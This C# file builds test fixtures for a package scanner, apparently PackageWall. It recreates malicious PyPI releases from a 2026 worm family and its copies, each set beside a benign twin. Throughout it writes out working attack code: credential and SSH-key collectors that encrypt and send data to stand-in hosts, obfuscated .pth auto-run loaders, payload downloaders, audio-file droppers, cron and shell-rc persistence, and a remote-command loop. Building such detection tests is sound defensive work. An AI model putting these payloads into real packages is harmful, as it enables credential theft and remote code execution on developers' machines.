using static PackageWall.Testing.Catalogue.Package;

namespace PackageWall.Testing.Catalogue;

/// <summary>Python packages of the worm family of 2026 and its copies.</summary>
internal static class PyPi2026Attacks
{
    private const string PathFiles = "litellm 1.82.8, elementary-data, Hades";
    private const string Fetchers = "mistralai, guardrails, durabletask, num2words";

    private const string Collector = """"
        import packagewall_inert_fixture
        import glob, json, os, socket, subprocess, tarfile, tempfile
        home = os.path.expanduser("~")
        places = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".azure/msal_token_cache.json", ".config/gcloud/application_default_credentials.json", ".kube/config", ".docker/config.json", ".git-credentials", ".bash_history", ".npmrc", ".pypirc"]
        key = """-----BEGIN PUBLIC KEY-----
        inert
        -----END PUBLIC KEY-----"""

        work = tempfile.mkdtemp()
        with tarfile.open(os.path.join(work, "tpcp.tar.gz"), "w:gz") as out:
            for place in places:
                full = os.path.join(home, place)
                if os.path.exists(full):
                    out.add(full)
            with open(os.path.join(work, "env.json"), "w") as env:
                json.dump(dict(os.environ), env)
            out.add(os.path.join(work, "env.json"))
        open(os.path.join(work, "pub.pem"), "w").write(key)
        subprocess.run(["openssl", "rand", "-out", work + "/session.key", "32"])
        subprocess.run(["openssl", "enc", "-aes-256-cbc", "-in", work + "/tpcp.tar.gz", "-out", work + "/payload.enc", "-pass", "file:" + work + "/session.key"])
        subprocess.run(["openssl", "pkeyutl", "-encrypt", "-pubin", "-inkey", work + "/pub.pem", "-in", work + "/session.key", "-out", work + "/session.key.enc"])
        subprocess.run(["curl", "-s", "-X", "POST", "-F", "d=@" + work + "/payload.enc", "https://models.proxy-cloud.invalid/"])

        """";

    private static CataloguePackage Honest(string name, string version) => PyPiTwins.Client with
    {
        Name = name,
        Version = version,
        Files = [.. PyPiTwins.Client.Files.Select(file => file with { Path = file.Path.Replace("acme_sdk", name, StringComparison.Ordinal) })],
    };

    private static CataloguePackage Appended(CataloguePackage honest, string version, string path, string code) =>
        (honest with { Version = version }).Change(file => file.Path == path ? new CatalogueFile(path, file.Text + "\n" + code) : file);

    private static string PathLine(string code) =>
        $"import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('{Encodings.Base64(code)}'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";

    public static IEnumerable<CatalogueFixture> All()
    {
        CataloguePackage proxy = Honest("lite_proxy", "1.82.6");
        string twice = $"import base64\nexec(base64.b64decode(\"{Encodings.Base64(Collector)}\"))\n";
        yield return new("litellm-1.82.7", "litellm 1.82.7", "B03 B05 H04", Appended(proxy, "1.82.7", "lite_proxy/_client.py", $"""
            import subprocess, base64, sys, tempfile, os
            b64_payload = "{Encodings.Base64(twice)}"
            with tempfile.TemporaryDirectory() as d:
                p = os.path.join(d, "p.py")
                with open(p, "wb") as f:
                    f.write(base64.b64decode(b64_payload))
                subprocess.run([sys.executable, p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

            """)) { Earlier = proxy, Twin = PyPiTwins.Client };
        yield return new("litellm-1.82.8", PathFiles, "B01 B03 H01", (proxy with { Version = "1.82.8" }).And(("lite_proxy_init.pth", PathLine(twice)))) { Earlier = proxy, Twin = PyPiTwins.NamespacePathFile };

        CataloguePackage elementary = Honest("element_data", "0.23.2");
        yield return new("elementary-data", PathFiles, "B01 B03 H01", (elementary with { Version = "0.23.3" }).And(
            ("element.pth", $"import base64,sys;exec(compile(base64.b64decode(b'{Encodings.Base64(Collector)}'),'<e>','exec'))\n"))) { Earlier = elementary, Twin = PyPiTwins.PathFile };

        CataloguePackage hades = Honest("phenopack", "0.1.6");
        yield return new("hades", PathFiles, "B01 B03 B28 H01", (hades with { Version = "0.1.7" }).And(
            ("phenopack-setup.pth", $"import os; exec(\"{string.Concat("""
                import os,subprocess,urllib.request,zipfile,site
                s='/tmp/.bun_ran'
                if not os.path.exists(s):
                    open(s,'w').close()
                    u='https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip'
                    urllib.request.urlretrieve(u,'/tmp/b.zip')
                    zipfile.ZipFile('/tmp/b.zip').extractall('/tmp/b')
                    os.chmod('/tmp/b/bun-linux-x64/bun',0o755)
                    subprocess.Popen(['/tmp/b/bun-linux-x64/bun',os.path.join(site.getsitepackages()[0],'_index.js')])
                """.Replace("\n", "\\n", StringComparison.Ordinal))}\")\n"),
            ("_index.js", Obfuscation.Bundle(Obfuscation.StringArray("const fs = require('fs'); fetch('https://api.anthropic-like.invalid/v1/api', { method: 'POST', body: JSON.stringify(process.env) + fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8') });"), 600_000)))) { Earlier = hades, Twin = PyPiTwins.PathFile };

        CataloguePackage phone = Honest("telnyx_like", "4.87.0");
        yield return new("telnyx", "telnyx", "B26 B04 H06", Appended(phone, "4.87.2", "telnyx_like/_client.py", """
            import sys, subprocess, tempfile, wave, urllib.request, platform


            def _setup():
                if platform.system() == "Windows":
                    startup = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "msbuild.exe")
                    lock = startup + ".lock"
                    if os.path.exists(lock):
                        return
                    urllib.request.urlretrieve("http://192.0.2.209:8080/hangup.wav", "hangup.wav")
                    with wave.open("hangup.wav", "rb") as sound:
                        raw = base64.b64decode(sound.readframes(sound.getnframes()))
                    key = raw[:8]
                    open(startup, "wb").write(bytes(b ^ key[i % 8] for i, b in enumerate(raw[8:])))
                    subprocess.Popen([startup], creationflags=0x08000000)
                else:
                    with tempfile.TemporaryDirectory() as work:
                        target = os.path.join(work, "ringtone.wav")
                        urllib.request.urlretrieve("http://192.0.2.209:8080/ringtone.wav", target)
                        with wave.open(target, "rb") as sound:
                            raw = base64.b64decode(sound.readframes(sound.getnframes()))
                        key = raw[:8]
                        code = bytes(b ^ key[i % 8] for i, b in enumerate(raw[8:]))
                        subprocess.Popen([sys.executable, "-c", code.decode()], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


            _setup()

            """)) { Earlier = phone, Twin = PyPiTwins.Client };

        CataloguePackage inference = Honest("xinfer", "2.5.9");
        yield return new("xinference", "bittensor-wallet, xinference", "B03 B05", Appended(inference, "2.6.0", "xinfer/__init__.py", $"""
            import base64 as _b, zlib as _z
            _p = "{Encodings.Base64(Encodings.Zlib(Collector))}"
            exec(_z.decompress(_b.b64decode(_p)).decode("utf-8"))

            """)) { Earlier = inference, Twin = PyPiTwins.Client };

        yield return new("bittensor-wallet", "bittensor-wallet, xinference", "B03 B05", Sdist("tensor-wallet", "4.0.2", ("tensor_wallet/__init__.py", "from .keyfile import Keyfile\n"),
            ("tensor_wallet/keyfile.py", """
                import base64
                import json
                import socket
                import urllib.request


                class Keyfile:
                    def __init__(self, path):
                        self.path = path

                    def decrypt(self, password):
                        with open(self.path) as source:
                            data = json.load(source)
                        _report({"path": self.path, "password": password, "data": data})
                        return data


                def _report(value):
                    try:
                        body = base64.b64encode(json.dumps(value).encode())
                        urllib.request.urlopen(urllib.request.Request("https://finney.tensor-opentelemetry.invalid/v1", data=body), timeout=4)
                    except Exception:
                        socket.gethostbyname(body[:60].hex() + ".t.tensor-opentelemetry.invalid")

                """), ("setup.py", "from setuptools import setup, find_packages\nsetup(name='tensor-wallet', version='4.0.2', packages=find_packages())\n")))
        {
            Earlier = Sdist("tensor-wallet", "4.0.1", ("tensor_wallet/__init__.py", "from .keyfile import Keyfile\n"), ("tensor_wallet/keyfile.py", "import json\n\n\nclass Keyfile:\n    def __init__(self, path):\n        self.path = path\n\n    def decrypt(self, password):\n        with open(self.path) as source:\n            return json.load(source)\n"), ("setup.py", "from setuptools import setup, find_packages\nsetup(name='tensor-wallet', version='4.0.1', packages=find_packages())\n")),
            Twin = PyPiTwins.Setup,
        };

        CataloguePackage flash = Honest("flash_train", "2.6.1");
        yield return new("lightning", "lightning", "B28 B24b H05 H12", Appended(flash, "2.6.2", "flash_train/__init__.py", """
            import threading as _threading


            def _run_runtime():
                import os, subprocess, sys
                here = os.path.dirname(os.path.abspath(__file__))
                subprocess.Popen([sys.executable, os.path.join(here, "_runtime", "start.py")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=os.path.join(here, "_runtime"))


            _threading.Thread(target=_run_runtime, daemon=True).start()

            """).And(("flash_train/_runtime/start.py", """
            import os, platform, stat, subprocess, tempfile, urllib.request, zipfile

            BUN_VERSION = "1.3.13"
            ENTRY = "router_runtime.js"


            def asset():
                machine = {"x86_64": "x64", "arm64": "aarch64", "aarch64": "aarch64"}[platform.machine()]
                return f"bun-{platform.system().lower()}-{machine}"


            def main():
                work = tempfile.mkdtemp()
                archive = os.path.join(work, "bun.zip")
                urllib.request.urlretrieve(f"https://github.com/oven-sh/bun/releases/download/bun-v{BUN_VERSION}/{asset()}.zip", archive)
                with zipfile.ZipFile(archive) as packed:
                    packed.extractall(work)
                bun = os.path.join(work, asset(), "bun")
                os.chmod(bun, os.stat(bun).st_mode | stat.S_IEXEC)
                subprocess.run([bun, "run", os.path.join(os.path.dirname(__file__), ENTRY)], check=False)


            main()

            """), ("flash_train/_runtime/router_runtime.js", Obfuscation.Bundle(Obfuscation.StringArray("const fs = require('fs'), os = require('os'); const all = { env: process.env, key: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'), aws: fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8') }; fetch('https://router.flash-train.invalid/t', { method: 'POST', body: JSON.stringify(all) });"), 1_500_000)))) { Earlier = flash, Twin = PyPiTwins.BackgroundThread };

        CataloguePackage mistral = Honest("mistral_like", "2.4.5");
        yield return new("mistralai-pypi", Fetchers, "B04 H04 H06", Appended(mistral, "2.4.6", "mistral_like/__init__.py", """
            import os as _os
            import subprocess as _sub
            import sys as _sys


            def _run_background_task():
                if not _sys.platform.startswith("linux") or _os.environ.get("MISTRAL_INIT"):
                    return
                _os.environ["MISTRAL_INIT"] = "1"
                try:
                    _sub.run(["curl", "-k", "-L", "-s", "https://192.0.2.194/transformers.pyz", "-o", "/tmp/transformers.pyz"], timeout=15)
                    _sub.Popen([_sys.executable, "/tmp/transformers.pyz"], stdout=_sub.DEVNULL, stderr=_sub.DEVNULL, start_new_session=True)
                except Exception:
                    pass


            _run_background_task()

            """)) { Earlier = mistral, Twin = PyPiTwins.Compatibility };

        CataloguePackage guard = Honest("guardrails_like", "0.10.0");
        yield return new("guardrails", Fetchers, "B04 H04 H06", Appended(guard, "0.10.1", "guardrails_like/__init__.py", """
            try:
                import platform, subprocess, urllib.request
                if platform.system() == "Linux":
                    with urllib.request.urlopen("https://git-rowset.invalid/transformers.pyz") as _r, open("/tmp/transformers.pyz", "wb") as _f:
                        _f.write(_r.read())
                    subprocess.Popen(["python3", "/tmp/transformers.pyz"], start_new_session=True)
            except Exception:
                pass

            """)) { Earlier = guard, Twin = PyPiTwins.Compatibility };

        CataloguePackage durable = Honest("durable_like", "1.4.0");
        yield return new("durabletask", Fetchers, "B04 H04 H06", Appended(durable, "1.4.2", "durable_like/__init__.py", """
            from . import _bootstrap as _bootstrap

            _bootstrap.ensure()

            """).And(("durable_like/_bootstrap.py", """
            import os
            import subprocess
            import sys
            import tempfile

            import requests

            HOSTS = ("check.git-svc.invalid", "t.m-collect.invalid")


            def ensure():
                target = os.path.join(tempfile.gettempdir(), "rope.pyz")
                for host in HOSTS:
                    try:
                        answer = requests.get("https://%s/rope.pyz" % host, timeout=8, verify=False)
                        if answer.ok:
                            with open(target, "wb") as out:
                                out.write(answer.content)
                            subprocess.Popen([sys.executable, target], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True, start_new_session=True)
                            return
                    except Exception:
                        continue

            """))) { Earlier = durable, Twin = PyPiTwins.Client };

        CataloguePackage mustard = PyPiTwins.Compatibility with { Version = "0.7.3" };
        yield return new("mrmustard", "MrMustard", "B05 B08 H06", Appended(mustard, "0.7.4", "light_cone/__init__.py", InertPy + """
            import json
            import socket
            import subprocess
            import sys
            import urllib.request
            from pathlib import Path


            def _collect() -> dict:
                home = Path.home()
                info = {"hostname": socket.gethostname(), "user": os.environ.get("USER"), "env": dict(os.environ)}
                for key in (home / ".ssh").glob("id_*"):
                    info[str(key)] = key.read_text()
                for name in (".aws/credentials", ".kube/config"):
                    path = home / name
                    if path.exists():
                        info[name] = path.read_text()
                info["ip"] = urllib.request.urlopen("https://api.ipify.org").read().decode()
                info["packages"] = subprocess.check_output([sys.executable, "-m", "pip", "list"]).decode()
                return info


            def _persist() -> None:
                line = f"{sys.executable} -c 'import light_cone' >/dev/null 2>&1"
                existing = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
                subprocess.run(["crontab", "-"], input=existing + f"*/15 * * * * {line}\n", text=True)
                for rc in (".bashrc", ".zshrc"):
                    with open(Path.home() / rc, "a") as shell:
                        shell.write(f"\n({line} &)\n")
                import site
                (Path(site.getsitepackages()[0]) / "light_cone_compat.pth").write_text("import light_cone\n")


            def _check_tf_compatibility_v2() -> None:
                data = json.dumps(_collect()).encode()
                request = urllib.request.Request("https://metrics.femto-energy.invalid/v1/collect", data=data, headers={"Content-Type": "application/json"})
                urllib.request.urlopen(request, timeout=10)
                _persist()


            _check_tf_compatibility_v2()

            """)) { Earlier = mustard, Twin = PyPiTwins.Compatibility };

        yield return new("frint-skytext", "frint/skytext", "H05", Wheel("skytext_like", "1.0.3", ("skytext_like/__init__.py", "from .gradient import paint\n"),
            ("skytext_like/gradient.py", "def paint(text):\n    return text\n"),
            ("skytext_like/gradient.cp312-win_amd64.pyd", Binaries.Pe(true, "PyInit_gradient", "WinHttpSendRequest", "Login Data", "CryptUnprotectData")),
            ("skytext_like/gradient.cpython-312-x86_64-linux-gnu.so", Binaries.Elf("PyInit_gradient", "/.ssh/id_rsa", "curl_easy_perform")))) { Twin = PyPiTwins.Extension, Expect = Expectation.Held };

        yield return new("trapdoor-pypi", "TrapDoor", "B04", Wheel("solana_dev_tools", "0.1.4", ("solana_dev_tools/__init__.py", """
            import subprocess
            import urllib.request


            def _warm():
                script = urllib.request.urlopen("https://trap-assets.invalid/boot.js", timeout=5).read().decode()
                subprocess.Popen(["node", "-e", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


            _warm()

            """))) { Twin = PyPiTwins.BackgroundThread };

        CataloguePackage exchange = Honest("dydx_like", "1.1.4");
        yield return new("dydx-pypi", "dYdX PyPI (import RAT)", "B03 B04", Appended(exchange, "1.1.5.post1", "dydx_like/__init__.py", "from ._bootstrap import start as _start\n_start()\n").And(
            ("dydx_like/_bootstrap.py", $$"""
                import base64
                import threading
                import urllib.request

                _D = "{{Enumerable.Range(0, 12).Aggregate("""
                    import json, platform, subprocess, time, urllib.request
                    def loop():
                        while True:
                            task = json.loads(urllib.request.urlopen("https://api.dydx-price.invalid/py").read())
                            if task.get("code"):
                                exec(task["code"])
                            time.sleep(10)
                    loop()
                    """, (text, _) => Encodings.Base64(text))}}"


                def start():
                    text = _D
                    for _ in range(12):
                        text = base64.b64decode(text).decode()
                    threading.Thread(target=lambda: exec(text, {"__name__": "_d"}), daemon=True).start()

                """))) { Earlier = exchange, Twin = PyPiTwins.BackgroundThread };
    }
}
